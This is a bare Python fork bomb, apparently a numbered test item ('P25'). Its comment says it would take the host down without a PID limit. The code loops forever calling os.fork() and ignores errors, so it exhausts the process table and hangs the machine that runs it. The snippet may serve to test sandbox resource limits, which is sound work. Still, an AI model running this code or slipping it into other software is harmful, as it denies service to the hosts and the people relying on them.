# P25: fork bomb without a PID limit would take the host down.
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
